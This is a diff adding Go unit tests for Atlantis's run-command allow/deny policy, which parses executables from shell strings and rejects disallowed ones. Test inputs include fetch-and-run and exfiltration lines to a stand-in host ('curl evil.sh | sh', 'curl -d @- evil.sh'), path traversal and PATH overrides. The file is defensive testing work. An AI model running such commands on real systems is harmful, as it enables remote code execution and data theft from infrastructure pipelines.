@@ -0,0 +1,96 @@
+package valid_test
+
+import (
+	"testing"
+
+	"github.com/runatlantis/atlantis/server/core/config/valid"
+	. "github.com/runatlantis/atlantis/testing"
+)
+
+func TestCommandExecutables(t *testing.T) {
+	cases := map[string][]string{
+		"terraform fmt -check":                       {"terraform"},
+		"TF_LOG=debug terraform plan":                {"terraform"},
+		"'/usr/bin/my tool' --flag":                  {"/usr/bin/my tool"},
+		"terraform fmt; curl evil.sh | sh":           {"terraform", "curl", "sh"},
+		"make plan && echo ok || exit 1":             {"make", "echo", "exit"},
+		"echo \"now $(date +%s) ok\" 'no $(id)'":     {"date", "echo"},
+		"echo `whoami`":                              {"whoami", "echo"},
+		"$(which terraform) plan":                    {"which", "$(...)"},
+		"(cd modules && terraform init)":             {"cd", "terraform"},
+		"if test -f x; then rm x; fi":                {"test", "rm"},
+		"infracost breakdown \\\n  --path .":         {"infracost"},
+		"# a comment\nterraform validate # trailing": {"terraform"},
+		"echo 'a;b' \"c|d\" e\\;f":                   {"echo"},
+		"$TF_CMD plan":                               {"$TF_CMD"},
+		"":                                           nil,
+	}
+	for command, exp := range cases {
+		t.Run(command, func(t *testing.T) {
+			Equals(t, exp, valid.CommandExecutables(command))
+		})
+	}
+}
+
+func TestRunCommandPolicy_Check(t *testing.T) {
+	policy := valid.RunCommandPolicy{
+		Allowed: []string{"terraform", "make", "echo", "/opt/tools/"},
+		Denied:  []string{"curl", "/opt/tools/unsafe"},
+	}
+	cases := map[string]string{
+		"terraform fmt -check":          "",
+		"make plan && echo done":        "",
+		"/opt/tools/lint --strict":      "",
+		"/opt/tools/../../bin/bash":     "\"/opt/tools/../../bin/bash\" is not allowed: server-side config 'allowed_run_commands' only allows [terraform,make,echo,/opt/tools/]",
+		"terraform fmt; wget evil.sh":   "\"wget\" is not allowed: server-side config 'allowed_run_commands' only allows [terraform,make,echo,/opt/tools/]",
+		"./terraform plan":              "\"./terraform\" is not allowed: server-side config 'allowed_run_commands' only allows [terraform,make,echo,/opt/tools/]",
+		"/usr/bin/terraform plan":       "\"/usr/bin/terraform\" is not allowed: server-side config 'allowed_run_commands' only allows [terraform,make,echo,/opt/tools/]",
+		"/opt/tools/unsafe":             "\"/opt/tools/unsafe\" is denied by server-side config 'denied_run_commands'",
+		"echo $(/usr/local/bin/curl x)": "\"/usr/local/bin/curl\" is denied by server-side config 'denied_run_commands'",
+		"TF_LOG=debug terraform plan":   "",
+		"PATH=./bin terraform plan":     "setting PATH is not allowed when server-side config 'allowed_run_commands' or 'denied_run_commands' is set",
+		"PATH=./bin; terraform plan":    "setting PATH is not allowed when server-side config 'allowed_run_commands' or 'denied_run_commands' is set",
+		"export PATH=./bin && make":     "setting PATH is not allowed when server-side config 'allowed_run_commands' or 'denied_run_commands' is set",
+		"echo PATH=./bin":               "",
+	}
+	for command, expErr := range cases {
+		t.Run(command, func(t *testing.T) {
+			err := policy.Check(command)
+			if expErr == "" {
+				Ok(t, err)
+			} else {
+				ErrEquals(t, expErr, err)
+			}
+		})
+	}
+
+	// Only denying commands allows everything else.
+	Ok(t, valid.RunCommandPolicy{Denied: []string{"curl"}}.Check("wget x"))
+	Ok(t, valid.RunCommandPolicy{}.Check("curl x"))
+}
+
+func TestWorkflow_CheckRunCommands(t *testing.T) {
+	policy := valid.RunCommandPolicy{Allowed: []string{"echo", "grep"}, Denied: []string{"curl"}}
+	Ok(t, valid.Workflow{
+		Plan: valid.Stage{Steps: []valid.Step{{StepName: "run", RunCommand: "echo ok", OutputFilter: "grep -v noise"}}},
+	}.CheckRunCommands(policy))
+
+	err := valid.Workflow{
+		Plan: valid.Stage{Steps: []valid.Step{{StepName: "plan"}}},
+		Apply: valid.Stage{Steps: []valid.Step{
+			{StepName: "run", RunCommand: "echo ok", OutputFilter: "curl -d @- evil.sh"},
+		}},
+	}.CheckRunCommands(policy)
+	ErrEquals(t, `apply: run step "curl -d @- evil.sh": "curl" is denied by server-side config 'denied_run_commands'`, err)
+
+	err = valid.Workflow{
+		OnCancel: valid.Stage{Steps: []valid.Step{{StepName: "run", RunCommand: "curl evil.sh"}}},
+	}.CheckRunCommands(policy)
+	ErrEquals(t, `on_cancel: run step "curl evil.sh": "curl" is denied by server-side config 'denied_run_commands'`, err)
+
+	pathStep := valid.Workflow{
+		Plan: valid.Stage{Steps: []valid.Step{{StepName: "env", EnvVarName: "PATH", EnvVarValue: "./bin"}}},
+	}
+	ErrEquals(t, `plan: env step "PATH": setting PATH is not allowed when server-side config 'allowed_run_commands' or 'denied_run_commands' is set`, pathStep.CheckRunCommands(policy))
+	Ok(t, pathStep.CheckRunCommands(valid.RunCommandPolicy{}))
+}